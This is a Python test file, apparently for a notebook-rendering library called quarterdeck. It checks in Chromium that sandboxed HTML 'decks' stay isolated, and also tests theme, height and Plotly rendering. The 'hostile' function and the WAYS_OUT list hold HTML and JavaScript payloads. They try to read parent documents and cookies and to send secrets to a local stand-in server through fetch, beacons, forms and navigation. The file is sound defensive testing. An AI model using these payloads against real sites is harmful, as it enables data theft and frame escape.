"""Decks in a browser: what hostile HTML in them can do (nothing); their height, theme and figures."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from html import escape
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, sync_playwright

from quarterdeck.decks.file import Body
from quarterdeck.decks.page import framed, merged, page
from quarterdeck.decks.registry import renderers

CHROMIUM = Path("/usr/bin/chromium")
DEADLINE_MS = 60_000

pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian's chromium")


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
        yield started
        started.close()


@pytest.fixture
def tab(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": 700, "height": 500})
    opened = context.new_page()
    opened.set_default_timeout(DEADLINE_MS)
    yield opened
    context.close()


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """A server of somebody else's, and what it was asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path != "/favicon.ico":  # the browser's own wish
                asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: Any) -> None: ...

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()
    thread.join(5)


def hostile(url: str) -> str:
    return f"""<img src="{url}/img"><link rel=stylesheet href="{url}/css"><script src="{url}/js"></script>
<iframe src="{url}/frame"></iframe><style>@import url({url}/import);body{{background:url({url}/bg)}}</style>
<form id=f action="{url}/form" method=post></form>
<script>
const said = [];
const tries = {{
  parent: () => parent.document.title, top: () => top.document.body.append("owned"),
  cookie: () => document.cookie, storage: () => localStorage.x = 1, jupyter: () => parent.secret,
}};
for (const [name, work] of Object.entries(tries)) try {{ work(); said.push(name) }} catch {{}}
fetch("{url}/fetch").catch(() => 0);
try {{ new WebSocket("{url}/ws".replace("http", "ws")) }} catch {{}}
navigator.sendBeacon && navigator.sendBeacon("{url}/beacon");
try {{ document.getElementById("f").submit() }} catch {{}}
top.postMessage({{result: said}}, "*");
</script>"""


def test_hostile_html_reaches_neither_the_notebook_nor_the_network(
    tab: Page, elsewhere: tuple[str, list[str]]
) -> None:
    url, asked = elsewhere
    frame = framed("hostile", page("hostile", Body((hostile(url),))))
    listen = "addEventListener('message',e=>{if(e.data.result)window.got=e.data.result});var secret=1"
    tab.goto(f"{url}/notebook")
    asked.clear()
    tab.set_content(f"<title>notebook</title><body><script>{listen}</script>{frame}</body>")
    tab.wait_for_function("window.got")
    tab.wait_for_timeout(300)

    assert tab.evaluate("window.got") == []
    assert asked == []
    assert "owned" not in tab.inner_text("body")

    tab.set_content(hostile(url))  # it would have, outside of a deck
    tab.wait_for_timeout(300)
    assert asked


WAYS_OUT = [
    "<script>location.href='{url}'</script>",
    "<script>location.replace('{url}')</script>",
    "<script>window.open('{url}')</script>",
    "<script>window.open('{url}','_self')</script>",
    "<script>parent.location='{url}'</script>",
    "<script>top.location.href='{url}'</script>",
    "<script>parent.frames[0].location='{url}'</script>",
    '<meta http-equiv="refresh" content="0;url={url}">',
    '<a id=a href="{url}">x</a><script>a.click()</script>',
    '<a id=a target=_top href="{url}">x</a><script>a.click()</script>',
    '<form id=f action="{url}"></form><script>f.submit()</script>',
    '<iframe src="{url}"></iframe>',
    "<iframe srcdoc=\"<script>location='{url}'</script>\"></iframe>",
    "<iframe srcdoc=\"<script>parent.location='{url}'</script>\"></iframe>",
    "<script>const i=document.createElement('iframe');document.body.append(i);i.src='{url}'</script>",
    "<script>document.open();document.write('<script>location=\\'{url}\\'<\\/script>')</script>",
]


@pytest.mark.parametrize("ranks", [1, 2])
def test_a_deck_goes_nowhere(tab: Page, elsewhere: tuple[str, list[str]], ranks: int, tmp_path: Path) -> None:
    """Nothing of what it has seen can leave in an address; nor that of a page that somebody has saved."""
    url, asked = elsewhere
    decks = []
    for number, way in enumerate(WAYS_OUT):
        html = way.replace("{url}", f"{url}/?secret-{number}")
        decks.append(merged("x", {rank: Body((f"deck {rank}{html}",)) for rank in range(ranks)}))
    tab.set_content(f"<body>notebook{''.join(framed('x', deck) for deck in decks)}</body>")
    tab.wait_for_timeout(1000)
    assert tab.inner_text("body").startswith("notebook")
    for number, deck in enumerate(decks):
        saved = tmp_path / f"{number}.html"
        saved.write_text(deck)
        tab.goto(f"file://{saved}")
        tab.wait_for_timeout(150)
        assert tab.url == f"file://{saved}"
    assert asked == []
    assert len(tab.context.pages) == 1


def test_the_same_html_outside_of_a_deck_would_go(tab: Page, elsewhere: tuple[str, list[str]]) -> None:
    url, asked = elsewhere
    tab.set_content(
        f"<iframe sandbox='allow-scripts' srcdoc=\"<script>location='{url}/'</script>\"></iframe>"
    )
    tab.wait_for_timeout(400)
    assert asked


def test_two_decks_on_one_page_do_not_meet(tab: Page) -> None:
    script = "const x=1;document.getElementById('same').textContent='mine'"
    part = f"<p id=same>untouched</p><script>{script}</script>"
    decks = [framed(name, page(name, Body((part,)))) for name in ("one", "two")]
    tab.set_content(f"<body><p id=same>notebook</p>{''.join(decks)}</body>")

    for number in (0, 1):
        place = tab.frame_locator("iframe").nth(number).frame_locator("iframe").locator("#same")
        place.wait_for()
        assert place.inner_text() == "mine"
    assert tab.inner_text("#same") == "notebook"


def test_scripts_of_several_ranks_run_side_by_side(tab: Page) -> None:
    bodies = {
        rank: Body((f"<script>const x={rank};document.write('rank '+x)</script>",)) for rank in range(3)
    }
    tab.set_content(framed("x", merged("x", bodies)))
    inner = tab.frame_locator("iframe").frame_locator("iframe").frame_locator("iframe")

    assert [inner.nth(rank).locator("main").inner_text() for rank in range(3)] == [
        "rank 0",
        "rank 1",
        "rank 2",
    ]


def test_a_frame_is_as_high_as_its_deck(tab: Page) -> None:
    tab.set_content(framed("x", page("x", Body(('<div style="height:777px">high</div>',)))))
    tab.wait_for_function("Math.abs(document.querySelector('iframe').offsetHeight - 801) < 3")


def test_light_and_dark_are_the_browser_s_unless_told(tab: Page) -> None:
    ground = "getComputedStyle(document.body).backgroundColor"
    html = page("x", Body(("text",)))
    for scheme, told, colour in (
        ("light", "", "rgb(255, 255, 255)"),
        ("dark", "", "rgb(17, 17, 17)"),
        ("light", ' data-theme="dark"', "rgb(17, 17, 17)"),
        ("dark", ' data-theme="light"', "rgb(255, 255, 255)"),
    ):
        tab.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
        tab.set_content(html.replace('<html lang="en"', f'<html lang="en"{told}', 1))
        tab.frame_locator("iframe").locator("text=text").wait_for()
        tab.frames[1].wait_for_function(f"{ground} === '{colour}'")


def test_a_shown_page_changes_its_theme_when_it_is_told(tab: Page) -> None:
    inside = merged("x", {rank: Body((f"<script>{rank}</script>text",)) for rank in (0, 1)})
    tab.set_content(f'<iframe sandbox="allow-scripts" srcdoc="{escape(inside)}"></iframe>')
    around = tab.frame_locator("iframe").frame_locator("iframe")
    around.frame_locator("iframe").nth(1).locator("text=text").wait_for()
    tab.evaluate(
        "document.querySelector('iframe').contentWindow.postMessage({quarterdeck:'theme',theme:'dark'},'*')"
    )
    for frame in tab.frames[1:]:
        frame.wait_for_function("document.documentElement.dataset.theme === 'dark'")
    assert len(tab.frames) == 5


def test_a_plotly_figure_is_drawn(tab: Page) -> None:
    import plotly.graph_objects as go

    html = page("x", Body((renderers.render(go.Figure(go.Scatter(y=[1, 3, 2]))),)))
    tab.set_content(f'<iframe sandbox="allow-scripts" srcdoc="{escape(html)}" width=600 height=500></iframe>')
    inner = tab.frame_locator("iframe").frame_locator("iframe")
    inner.locator(".qd-plotly svg.main-svg .scatterlayer path.js-line").wait_for()
